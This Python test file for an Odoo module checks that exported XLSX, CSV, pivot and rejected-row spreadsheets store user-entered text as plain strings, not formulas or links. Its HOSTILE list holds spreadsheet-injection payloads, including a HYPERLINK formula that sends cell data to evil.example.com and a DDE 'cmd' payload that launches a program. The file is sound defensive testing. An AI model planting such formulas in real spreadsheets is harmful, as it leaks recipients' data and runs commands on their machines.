import csv
import io
import json
from unittest.mock import patch

import openpyxl

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

from odoo.addons.web.controllers.export import ExportXlsxWriter

from ..onec.sheets.rejected import write_rejected
from .claim.common import ClaimCase

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example.com/?"&A1,"press")',
    "=cmd|'/c calc'!A0",
    "{=1+1}",
    "+7 900 000-00-00",
    "-1+1",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "file://evil/evil.xlsx",
]
# What a program may begin a formula with, behind what it leaves out.
SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@tagged("post_install", "-at_install")
class TestExportTexts(HttpCase, ClaimCase):
    """Whatever a stranger writes is a text in every file that leaves Odoo."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.user = new_test_user(
            cls.env,
            "export_admin",
            "its_quality.group_administrator,base.group_allow_export",
        )
        cls.partners = cls.env["res.partner"].create(
            [{"name": text, "its_client": True} for text in HOSTILE]
        )
        cls.claims = cls.env["its.claim"].create(
            [
                {
                    "subject": partner.name,
                    "description": "x",
                    "partner_id": partner.id,
                }
                for partner in cls.partners
            ]
        )

    def setUp(self):
        super().setUp()
        self.authenticate("export_admin", "export_admin")

    def export(self, kind, records, names, groupby=()):
        """Export as the web client does.

        :return: bytes
        """
        data = {
            "model": records._name,
            "fields": [
                {"name": name, "label": name, "type": records._fields[name].type}
                for name in names
            ],
            "ids": records.ids,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
        }
        return self.post(f"/web/export/{kind}", data)

    def post(self, address, data):
        response = self.url_open(
            address,
            data={
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200, response.text)
        return response.content

    def cells(self, content):
        """The cells of a workbook that hold anything; none of them is a formula."""
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        cells = [cell for cell in cells if cell.value is not None]
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", cell.value)
            self.assertFalse(cell.hyperlink, cell.value)
        return cells

    def assert_texts(self, content, expected):
        cells = self.cells(content)
        told = {str(cell.value) for cell in cells if cell.data_type == "s"}
        for text in expected:
            # As Odoo writes a line that ends in the old way.
            self.assertIn(text.replace("\r", " "), told)

    def test_workbooks(self):
        for records, names in (
            (self.claims, ["name", "subject", "partner_id"]),
            (self.partners, ["name", "its_client"]),
        ):
            with self.subTest(records._name):
                content = self.export("xlsx", records, names)
                name = names[1] if records == self.claims else names[0]
                self.assert_texts(content, records.mapped(name))

    def test_workbooks_of_groups(self):
        content = self.export(
            "xlsx", self.claims, ["name", "subject", "partner_id"], ["partner_id"]
        )
        self.assert_texts(
            content, [f"{name} (1)" for name in self.partners.mapped("display_name")]
        )

    def test_writer_of_odoo_is_asked(self):
        """Others extend it, and so do Odoo's own tests."""
        with patch.object(ExportXlsxWriter, "write", autospec=True) as write:
            self.export("xlsx", self.partners, ["name"])
        written = {call.args[3] for call in write.call_args_list}
        names = {name.replace("\r", " ") for name in self.partners.mapped("name")}
        self.assertEqual(written, {"name", *names})

    def test_pages_stay_links(self):
        self.partners[0].name = "https://example.com/"
        book = openpyxl.load_workbook(
            io.BytesIO(self.export("xlsx", self.partners[0], ["name"]))
        )
        self.assertEqual(book.active["A2"].value, "https://example.com/")
        self.assertTrue(book.active["A2"].hyperlink)

    def test_pivots(self):
        rows = [
            {"indent": 0, "title": text, "values": [{"value": text}, {"value": 2.5}]}
            for text in HOSTILE
        ]
        data = {
            "title": "Claims",
            "model": "its.claim",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [
                [{"title": text, "width": 1, "height": 1} for text in HOSTILE]
            ],
            "measure_headers": [{"title": "=1+1", "is_bold": True}],
            "origin_headers": [],
            "rows": rows,
        }
        content = self.post("/web/pivot/export_xlsx", data)
        # Before links to files a blank is put; a line that ends in the old way is coded.
        told = {str(cell.value).lstrip(" ") for cell in self.cells(content)}
        for text in HOSTILE:
            self.assertIn(text.replace("\r", "_x000D_").lstrip(" "), told)
        numbers = [cell.value for cell in self.cells(content) if cell.data_type == "n"]
        self.assertEqual(numbers, [2.5] * len(HOSTILE))

    def test_tables_of_texts(self):
        for records, name in ((self.claims, "subject"), (self.partners, "name")):
            content = self.export("csv", records, [name])
            rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
            for [cell], record in zip(rows[1:], records, strict=True):
                text = record[name]
                with self.subTest(text):
                    self.assertEqual(cell.removeprefix("'"), text)
                    if text.lstrip("\t\r\n \u00a0").startswith(SIGNS):
                        self.assertTrue(cell.startswith("'"))

    def test_rejected_rows(self):
        with io.BytesIO() as file:
            write_rejected(file, HOSTILE, [(HOSTILE, "=1+1")], "=Reason")
            cells = self.cells(file.getvalue())
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
